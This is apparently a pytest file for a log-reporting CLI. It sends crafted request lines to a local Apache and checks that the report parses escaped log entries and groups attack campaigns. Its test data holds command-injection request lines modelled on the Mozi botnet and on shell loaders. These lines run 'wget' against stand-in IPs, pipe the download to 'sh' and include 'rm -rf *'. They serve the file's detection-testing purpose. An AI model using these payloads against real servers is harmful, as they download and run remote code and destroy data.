"""`tcpfp report --format FMT` reads what Debian's apache2 really writes.

Apache (tests/apache.py) logs request lines holding quotes, backslashes,
control and high bytes (written as ``\\xhh``) and spaces; the report must
count every request, read each request line back to the bytes that were sent
(as latin-1 text, exactly as ``LogFormat.parse`` does), and group the
campaigns among them into one pattern each.
"""

from __future__ import annotations

import json
import socket
import time

import pandas as pd
import pytest
from typer.testing import CliRunner

from apache import Apache
from tcpfp_cli.cli import app
from tcpfp_cli.logformat import compile_format
from tcpfp_cli.logreader import read_dataframe

FORMAT = '%h %l %u %t "%r" %>s %b "%{User-Agent}i" %D'

HOSTILE = [
    b'GET /index.html?q="quoted"\\back\\slash HTTP/1.0',
    b"GET /index.html?t=\x01\x7f\x80\xe9\xff HTTP/1.0",
    b"GET /index.html?lit=\\x41%20%n HTTP/1.0",
    b'GET /"/\\"/ HTTP/1.0',
]
MOZI = [b"GET /board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://%s:%d/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+varcron HTTP/1.0"
        % (ip, port) for ip, port in ((b"198.51.100.7", 4242), (b"203.0.113.9", 61000), (b"192.0.2.77", 1025))]
LOADER = [b"GET /dl?cd+/var;wget+http://%s:%d/x.sh HTTP/1.0" % (ip, port)
          for ip, port in ((b"198.51.100.1", 80), (b"203.0.113.200", 8080))]


def _send_each(apache: Apache, request_lines: list[bytes], headers: bytes) -> list[str]:
    """Each request line with ``headers`` on its own connection; Apache's log lines for them."""
    for line in request_lines:
        with socket.create_connection(("127.0.0.1", apache.port), timeout=3) as s:
            s.sendall(line + b"\r\n" + headers + b"\r\n")
            s.shutdown(socket.SHUT_WR)
            deadline = time.monotonic() + 3
            while time.monotonic() < deadline and s.recv(65536):
                pass
    return apache.lines(len(request_lines))


def test_report_reads_apache_escaped_request_lines(tmp_path):
    sent = HOSTILE + MOZI + LOADER
    with Apache(FORMAT, protocol_options="Unsafe") as apache:
        lines = _send_each(apache, sent, b"User-Agent: x \"y\" \\z\r\n")
    assert len(lines) == len(sent)
    log = tmp_path / "apache.log"
    log.write_text("\n".join(lines) + "\n")
    assert any("\\x01" in line for line in lines) and any('\\"' in line for line in lines)

    df, stats = read_dataframe([str(log)], FORMAT)
    assert stats.parsed == len(sent) and stats.malformed == 0
    parse = compile_format(FORMAT).parse
    assert df["request"].tolist() == [parse(line)["request"] for line in lines]
    assert sorted(df["request"]) == sorted(r.decode("latin-1") for r in sent)
    agents = [None if v is None or v is pd.NA else v for v in df["header:user-agent"].astype(object)]
    assert agents == [parse(line)["header:user-agent"] for line in lines]
    assert agents.count('x "y" \\z') >= len(MOZI + LOADER)  # a 400 is logged before the headers are read

    result = CliRunner().invoke(app, ["report", "--json", "--format", FORMAT, str(log)])
    assert result.exit_code == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["summary"]["parsed"] == len(sent) and report["summary"]["malformed"] == 0
    campaigns = {c["name"] or c["pattern"]: c["requests"] for c in report["campaigns"]}
    assert campaigns["Mozi"] == 3
    assert campaigns["GET /dl?cd+/var;wget+http://<ip>:<port>/x.sh HTTP/1.0"] == 2
    assert campaigns['GET /"/\\"/ HTTP/1.0'] == 1
    assert campaigns["GET /index.html?t=<v> HTTP/1.0"] == 1
    assert sum(campaigns.values()) == len(sent)


#: Debian's stock ``vhost_combined`` (``%O`` from mod_logio, where ``common`` has ``%b``)
#: and the other directives of Apache's that tcpfp parses: %I %S %X %P %{c}a %V and %{...}t.
DEBIAN_FORMAT = ('%v:%p %h %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i" '
                 '%I %S %X %P %{c}a %V [%{%Y-%m-%d %H:%M:%S}t] %{msec}t %{end:usec_frac}t')


def test_report_reads_apaches_own_directives(tmp_path):
    with Apache(DEBIAN_FORMAT) as apache:
        lines = _send_each(apache, MOZI + LOADER, b"Host: sensor.example:8080\r\nUser-Agent: u\r\n")
    log = tmp_path / "apache.log"
    log.write_text("\n".join(lines) + "\n")
    parse = compile_format(DEBIAN_FORMAT).parse
    first = parse(lines[0])
    assert first["server_name_used"] == "sensor.example"
    assert first["connection_status"] is None  # "-": closed after the answer (HTTP/1.0)
    assert int(first["bytes_in_out"]) == int(first["bytes_in"]) + int(first["bytes_out"])
    assert int(first["bytes_in"]) == len(MOZI[0]) + len(b"\r\nHost: sensor.example:8080\r\nUser-Agent: u\r\n\r\n")

    result = CliRunner().invoke(app, ["report", "--json", "--format", DEBIAN_FORMAT, str(log)])
    assert result.exit_code == 0, result.stderr
    report = json.loads(result.stdout)
    assert (report["summary"]["parsed"], report["summary"]["malformed"]) == (len(MOZI + LOADER), 0)
    campaigns = {c["name"] or c["pattern"]: c["requests"] for c in report["campaigns"]}
    assert campaigns["Mozi"] == 3
    assert campaigns["GET /dl?cd+/var;wget+http://<ip>:<port>/x.sh HTTP/1.0"] == 2


#: Unquoted text fields, as LogFormat lines often have them: between tabs, between "|", and a
#: request line between spaces.  Apache writes their spaces and "|" as they are.
UNQUOTED_FORMATS = ["%h\t%t\t%r\t%>s\t%{User-Agent}i\t%D", "%h|%r|%>s|%{User-Agent}i", "%h %t %r %>s %b %D"]
PIPED = [b"GET /cgi-bin/;wget+http://%s:%d/b+-O-|sh HTTP/1.0" % (ip, port)
         for ip, port in ((b"198.51.100.3", 81), (b"203.0.113.8", 5555))]


@pytest.mark.parametrize("log_format", UNQUOTED_FORMATS, ids=["tabs", "pipes", "spaces"])
def test_report_reads_unquoted_fields_apache_writes(tmp_path, log_format):
    sent = HOSTILE + MOZI + LOADER + PIPED
    with Apache(log_format, protocol_options="Unsafe") as apache:
        lines = _send_each(apache, sent, b"User-Agent: Mozilla/5.0 (X11; Linux x86_64) x \"y\" \\z\r\n")
    assert len(lines) == len(sent)
    log = tmp_path / "apache.log"
    log.write_text("\n".join(lines) + "\n")
    result = CliRunner().invoke(app, ["report", "--json", "--format", log_format, str(log)])
    assert result.exit_code == 0, result.stderr
    report = json.loads(result.stdout)
    assert report["summary"]["parsed"] == len(sent) and report["summary"]["malformed"] == 0
    df, _ = read_dataframe([str(log)], log_format)
    assert sorted(df["request"]) == sorted(r.decode("latin-1") for r in sent)
    if "header:user-agent" in df:
        assert list(df["header:user-agent"].dropna().unique()) == ['Mozilla/5.0 (X11; Linux x86_64) x "y" \\z']
    campaigns = {c["name"] or c["pattern"]: c["requests"] for c in report["campaigns"]}
    assert campaigns["Mozi"] == 3
    assert campaigns["GET /dl?cd+/var;wget+http://<ip>:<port>/x.sh HTTP/1.0"] == 2
    assert campaigns["GET /cgi-bin/;wget+http://<ip>:<port>/b+-O-|sh HTTP/1.0"] == 2
